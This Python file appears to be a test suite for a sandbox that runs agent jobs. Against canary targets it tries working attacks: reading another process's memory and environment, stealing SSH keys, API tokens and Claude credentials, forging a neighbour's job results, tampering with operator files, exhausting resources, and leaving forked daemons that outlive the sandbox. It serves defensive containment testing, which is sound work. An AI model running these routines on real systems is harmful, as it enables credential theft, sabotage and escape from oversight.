"""The attacks of a hostile job, run inside a sandbox: `python inside.py TARGETS [ATTACK...]`.

TARGETS is the path of a JSON file from `targets.py` with the locations of the targets. The output
is one line, a JSON object: for each attack's id, "open" (whether it succeeded) and "detail".
Without names, all attacks run.

Each attack succeeds without a sandbox, so only the sandbox can prevent it. All targets are
canaries. Files of the host itself (A27, A36, A37, A38) are opened and never written.

B07 and B08 try to leave processes behind. Their "open" means only that these were started.
`Targets.attacked` detects from outside whether they outlive the sandbox. They end after a
minute, or when the scratch directory has a file named `stop`.

Needs only the standard library of Python 3.9 or newer.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import http.client
import json
import os
import re
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

Targets = dict[str, Any]
Attack = Callable[[Targets], str]

SECONDS = 5
"""Seconds for a service or process to answer."""

CANARY = b"canary-"
"""Every secret starts with this text."""

ATTACKS: dict[str, Attack] = {}


class Refused(Exception):
    """An attack that failed without a system error."""


def attack(identifier: str) -> Callable[[Attack], Attack]:
    def register(function: Attack) -> Attack:
        ATTACKS[identifier] = function
        return function

    return register


# The worker's process


@attack("A01")
def read_environment_of_worker(targets: Targets) -> str:
    return secret_in(Path(f"/proc/{number_of(targets['worker'])}/environ"))


@attack("A02")
def read_memory_of_worker(targets: Targets) -> str:
    pid = number_of(targets["worker"])
    regions = re.findall(r"(\w+)-(\w+) rw", Path(f"/proc/{pid}/maps").read_text())
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for first, last in ((int(a, 16), int(b, 16)) for a, b in regions):
            if found := re.search(rb"canary-memory-\w{32}", piece(memory.fileno(), first, last)):
                return found.group().decode()
    raise Refused("the secret is not in the memory that could be read")


def piece(memory: int, first: int, last: int) -> bytes:
    try:
        return os.pread(memory, min(last - first, 64 << 20), first)
    except OSError:  # Such as [vvar], which cannot be read.
        return b""


@attack("A03")
def trace_worker(targets: Targets) -> str:
    seize = 0x4206  # PTRACE_SEIZE; it ends with the tracing child.
    pid = number_of(targets["worker"])
    in_child(lambda: of_libc(LIBC.ptrace(seize, pid, 0, 0)))
    return "traced"


# The worker's files


@attack("A04")
def read_credentials(targets: Targets) -> str:
    paths = [Path(targets["github_token"]), Path(targets["api_secret"])]
    return any_of(*(partial(secret_in, path) for path in paths))


@attack("A05")
def read_store(targets: Targets) -> str:
    return in_database(targets["store"], "SELECT title FROM jobs")


@attack("A06")
def write_store(targets: Targets) -> str:
    return in_database(targets["store"], "INSERT INTO jobs VALUES ('forged', 'title', 'result')")


@attack("B03")
def forge_result_of_neighbour(targets: Targets) -> str:
    return in_database(targets["store"], "UPDATE jobs SET result = 'forged'")


@attack("A07")
def read_and_write_temporal_database(targets: Targets) -> str:
    statements = ("SELECT title FROM jobs", "UPDATE jobs SET title = 'forged'")
    return any_of(
        *(partial(in_database, targets["temporal_database"], each) for each in statements)
    )


# The services of the installation


@attack("A08")
def call_api_with_stolen_secret(targets: Targets) -> str:
    return call(targets["api_port"], "GET", "/jobs", secret=stolen_secret(targets))


@attack("A09")
def cancel_neighbour_with_stolen_secret(targets: Targets) -> str:
    secret = stolen_secret(targets)
    return call(targets["api_port"], "POST", "/jobs/neighbour/cancel", secret=secret)


@attack("A10")
def reach_temporal(targets: Targets) -> str:
    with connected("127.0.0.1", targets["temporal_port"]) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\4" + bytes(5))
        if answer := connection.recv(9):
            return f"answered {answer.hex()}"
    raise Refused("it does not answer")


@attack("A11")
def list_workflows(targets: Targets) -> str:
    return call(targets["temporal_ui_port"], "GET", "/api/v1/namespaces/default/workflows")


@attack("B04")
def terminate_workflow_of_neighbour(targets: Targets) -> str:
    path = "/api/v1/namespaces/default/workflows/job-neighbour/terminate"
    return call(targets["temporal_ui_port"], "POST", path)


# Mirrors, worktrees and transcripts


@attack("A12")
def put_branch_into_mirror(targets: Targets) -> str:
    return created(Path(targets["own_mirror"], "refs", "heads", "evil"))


@attack("B15")
def replace_configuration_of_mirror(targets: Targets) -> str:
    return replaced(Path(targets["own_mirror"], "config"))


@attack("B16")
def remove_object_of_mirror(targets: Targets) -> str:
    kept = Path(targets["own_mirror"], "objects", "canary")
    kept.unlink()
    return f"removed {kept}"


@attack("A13")
def read_other_mirror(targets: Targets) -> str:
    return secret_in(Path(targets["other_mirror"], "packed-refs"))


@attack("A14")
def read_other_worktree(targets: Targets) -> str:
    return secret_in(Path(targets["other_worktree"], "source.py"))


@attack("A15")
def write_other_worktree(targets: Targets) -> str:
    return created(Path(targets["other_worktree"], "planted.py"))


@attack("A16")
def read_and_write_other_transcript(targets: Targets) -> str:
    path = Path(targets["other_transcript"])
    return any_of(partial(secret_in, path), partial(appended, path))


# Signals, and processes that remain


@attack("A17")
def terminate_worker(targets: Targets) -> str:
    return killed(targets["victims"]["A17"], signal.SIGTERM)


@attack("B05")
def kill_worker(targets: Targets) -> str:
    return killed(targets["victims"]["B05"], signal.SIGKILL)


@attack("A18")
def terminate_supervisor(targets: Targets) -> str:
    return killed(targets["victims"]["A18"], signal.SIGTERM)


@attack("B06")
def kill_supervisor_from_daemon(targets: Targets) -> str:
    """In a new session, without the variables that mark a job's processes."""
    victim = targets["victims"]["B06"]
    code = f"import os; os.setsid(); os.kill({number_of(victim)}, 9)"
    run([sys.executable, "-I", "-S", "-c", code], env={})
    return "killed"


@attack("B07")
def leave_daemon(targets: Targets) -> str:
    return left_behind(targets, "B07", chains=0)


@attack("B08")
def leave_fork_chain(targets: Targets) -> str:
    return left_behind(targets, "B08", chains=3)


# The product and its operator


@attack("A19")
def append_to_product(targets: Targets) -> str:
    return appended(Path(targets["product"], "worker.py"))


@attack("B14")
def replace_module_of_product(targets: Targets) -> str:
    return replaced(Path(targets["product"], "worker.py"))


@attack("A20")
def read_home_of_operator(targets: Targets) -> str:
    return secret_in(Path(targets["operator_home"], ".ssh", "id_ed25519"))


@attack("A21")
def write_home_of_operator(targets: Targets) -> str:
    return appended(Path(targets["operator_home"], ".bashrc"))


@attack("A22")
def use_shared_temporary_directory(targets: Targets) -> str:
    path = Path(targets["shared_file"])
    return any_of(partial(secret_in, path), partial(appended, path))


@attack("A30")
def read_claude_credential_in_environment(_: Targets) -> str:
    credential = os.environ.get("ANTHROPIC_API_KEY", "")
    if CANARY.decode() not in credential:
        raise Refused("there is none")
    return credential


@attack("A31")
def read_claude_login(targets: Targets) -> str:
    return secret_in(Path(targets["operator_home"], ".claude", ".credentials.json"))


# Network and sockets


@attack("A23")
def reach_loopback_service(targets: Targets) -> str:
    return call(targets["loopback_port"], "GET", "/")


@attack("A24")
def reach_network(targets: Targets) -> str:
    host, port = targets["egress"]
    with connected(host, port):
        return f"connected to {host}"


@attack("A25")
def reach_named_socket(targets: Targets) -> str:
    return greeting(str(targets["named_socket"]))


@attack("A32")
def reach_abstract_socket(targets: Targets) -> str:
    return greeting("\0" + targets["abstract_socket"])


# The kernel and the host


@attack("A26")
def make_user_namespace(_: Targets) -> str:
    in_child(lambda: of_libc(LIBC.unshare(0x10000000)))  # CLONE_NEWUSER
    return "made"


@attack("A27")
def open_disk(targets: Targets) -> str:
    """With its own device file, or with a new one for the root's disk."""
    for path in targets["devices"]:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_RDONLY))
            return f"opened {path}"
    made = Path(targets["scratch"], "disk")
    os.mknod(made, stat.S_IFBLK | 0o600, os.stat("/").st_dev)
    try:
        os.close(os.open(made, os.O_RDONLY))
    finally:
        made.unlink()
    return "made and opened a device"


@attack("A28")
def become_user_of_setuid_program(targets: Targets) -> str:
    answer = run([targets["setuid_program"], "-u"])
    if int(answer) != targets["setuid_uid"]:
        raise Refused(f"it runs as {answer}")
    return f"became user {answer}"


@attack("A29")
def see_other_processes(targets: Targets) -> str:
    arguments = Path(f"/proc/{number_of(targets['worker'])}/cmdline").read_text().split("\0")
    return f"read {' '.join(arguments[:4])}"


@attack("A33")
def start_too_many_processes(targets: Targets) -> str:
    started: list[int] = []
    holding, held = os.pipe()
    try:
        while len(started) < targets["process_limit"] + 16:
            if not (child := os.fork()):
                os.close(held)
                os.read(holding, 1)
                os._exit(0)
            started.append(child)
        time.sleep(targets["hold_seconds"])
    finally:
        os.close(held)
        os.close(holding)
        for child in started:
            os.waitpid(child, 0)
    return f"started {len(started)}"


@attack("A34")
def use_too_much_memory(targets: Targets) -> str:
    size = targets["memory_limit"] + (16 << 20)

    def touch() -> None:
        try:
            taken = bytearray(size)
        except MemoryError as error:
            raise OSError(errno.ENOMEM, os.strerror(errno.ENOMEM)) from error
        taken[::4096] = b"x" * len(range(0, size, 4096))
        time.sleep(targets["hold_seconds"])

    in_child(touch)
    return f"touched {size} bytes"


@attack("A35")
def write_too_large_file(targets: Targets) -> str:
    """Writes only the last byte, so that the file takes no space."""
    large = Path(targets["scratch"], "large")
    try:
        with large.open("wb") as file:
            os.pwrite(file.fileno(), b"x", targets["file_limit"])
    finally:
        large.unlink()
    return f"wrote at {targets['file_limit']}"


@attack("A36")
def set_kernel_parameter(targets: Targets) -> str:
    return opened_for_writing(targets["kernel_parameter"])


@attack("A37")
def plant_scheduled_command(targets: Targets) -> str:
    os.close(os.open(targets["cron_directory"], os.O_TMPFILE | os.O_WRONLY))
    return "made a file without a name"


@attack("A38")
def change_system_configuration(targets: Targets) -> str:
    return opened_for_writing(targets["system_configuration"])


@attack("A39")
def commit_own_work(targets: Targets) -> str:
    """Not an attack: every job must be able to do this."""
    repository: str = targets["repository"]
    Path(repository, "work").write_text("done\n")
    run(["git", "-C", repository, "add", "--all"])
    run(["git", "-C", repository, "commit", "--quiet", "--message=Work"])
    return run(["git", "-C", repository, "rev-parse", "HEAD"])


# Shared steps

LIBC = ctypes.CDLL(None, use_errno=True)


def of_libc(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def in_child(action: Callable[[], object]) -> None:
    """Run a function in a child, which may crash."""
    child = os.fork()
    if not child:
        code = 0
        try:
            action()
        except OSError as error:
            code = error.errno or 255
        os._exit(code)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code < 0:
        raise Refused(f"signal {-code} ended it")
    if code:
        raise OSError(code, os.strerror(code))


def run(command: list[str], **options: Any) -> str:
    done: subprocess.CompletedProcess[str]
    done = subprocess.run(command, capture_output=True, text=True, **options)
    if done.returncode:
        raise Refused(f"{command[0]}: {done.stderr.strip()}")
    return done.stdout.strip()


def any_of(*parts: Callable[[], str]) -> str:
    """Try all parts of an attack. It succeeds if one of them does."""
    found = [outcome(part) for part in parts]
    details = "; ".join(str(each["detail"]) for each in found)
    if not any(each["open"] for each in found):
        raise Refused(details)
    return details


def secret_in(path: Path) -> str:
    if not (found := re.search(CANARY + rb"[\w-]+", path.read_bytes())):
        raise Refused(f"{path} holds no secret")
    return found.group().decode()


def appended(path: Path) -> str:
    with path.open("a") as file:
        file.write("planted\n")
    return f"appended to {path}"


def created(path: Path) -> str:
    path.write_text("planted\n")
    return f"made {path}"


def replaced(path: Path) -> str:
    """Only existing files: a new file could be created in place of a hidden one."""
    path.stat()
    draft = path.with_name("draft")
    draft.write_text("planted\n")
    draft.replace(path)
    return f"replaced {path}"


def opened_for_writing(path: str) -> str:
    os.close(os.open(path, os.O_WRONLY))
    return f"opened {path}"


def in_database(path: str, statement: str) -> str:
    """Only existing databases: a hidden one is not created again."""
    with contextlib.closing(sqlite3.connect(f"file:{path}?mode=rw", uri=True)) as database:
        cursor = database.execute(statement)
        rows = cursor.fetchall() if cursor.description else cursor.rowcount
        database.commit()
    return f"{rows}"


def stolen_secret(targets: Targets) -> str:
    """From a file or from the worker's environment."""
    with contextlib.suppress(OSError):
        return secret_in(Path(targets["api_secret"]))
    environment = Path(f"/proc/{number_of(targets['worker'])}/environ").read_bytes()
    found = re.search(rb"AGENT_API_SECRET=([\w-]+)", environment)
    if not found:
        raise Refused("no secret could be stolen")
    return found.group(1).decode()


def call(port: int, method: str, path: str, *, secret: str = "") -> str:
    headers = {"Authorization": f"Bearer {secret}"} if secret else {}
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=SECONDS)
    with contextlib.closing(connection):
        connection.request(method, path, headers=headers)
        answer = connection.getresponse()
        if answer.status != 200:
            raise Refused(f"status {answer.status}")
        return answer.read().decode()


def connected(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=SECONDS)


def greeting(address: str) -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(SECONDS)
        connection.connect(address)
        return connection.recv(100).decode()


def number_of(process: Any) -> int:
    """Return the id of a process outside; inside, another process may have the same id."""
    with contextlib.suppress(OSError):
        fields = Path(f"/proc/{process['pid']}/stat").read_text().rpartition(")")[2].split()
        if int(fields[19]) != process["started"]:
            raise Refused("another process has its number")
    return int(process["pid"])


def killed(process: dict[str, int], number: signal.Signals) -> str:
    os.kill(number_of(process), number)
    return f"sent {number.name}"


LEFT_BEHIND = """
import os, sys, time
scratch, name, chains = sys.argv[1], sys.argv[2], int(sys.argv[3])
answer, asked, stop = (os.path.join(scratch, each) for each in (name, "are-you-there", "stop"))
os.setsid()
for _ in range(chains - 1):
    if os.fork() == 0: break
if os.fork(): os._exit(0)
end = time.monotonic() + 60
while time.monotonic() < end and not os.path.exists(stop):
    if os.path.exists(asked) or not os.path.exists(answer + "-started"):
        open(answer if os.path.exists(asked) else answer + "-started", "w").close()
    if chains and os.fork(): os._exit(0)
    time.sleep(0.01)
"""


def left_behind(targets: Targets, name: str, *, chains: int) -> str:
    """Start processes that try to remain. `chains` of them fork continuously, and the parents end.

    B07 keeps standard output open and B08 standard error, so that their end can be detected.
    """
    words = [sys.executable, "-I", "-S", "-c", LEFT_BEHIND, targets["scratch"], name, str(chains)]
    null = subprocess.DEVNULL
    output, error = (None, null) if name == "B07" else (null, None)
    subprocess.run(words, env={}, cwd="/", stdin=null, stdout=output, stderr=error)
    deadline = time.monotonic() + SECONDS
    while not Path(targets["scratch"], f"{name}-started").exists():
        if time.monotonic() > deadline:
            raise Refused("they did not start")
        time.sleep(0.01)
    return "started"


def outcome(attempt: Callable[[], str]) -> dict[str, object]:
    try:
        return {"open": True, "detail": attempt()}
    except (OSError, sqlite3.Error, http.client.HTTPException, Refused) as error:
        return {"open": False, "detail": f"{type(error).__name__}: {error}"}


def main(description: str, *chosen: str) -> None:
    targets = json.loads(Path(description).read_text())
    names = (set(chosen) or ATTACKS.keys()) - set(targets["left_out"])
    found = {
        name: outcome(partial(attempt, targets))
        for name, attempt in sorted(ATTACKS.items())
        if name in names
    }
    sys.stdout.write(json.dumps(found) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main(*sys.argv[1:])
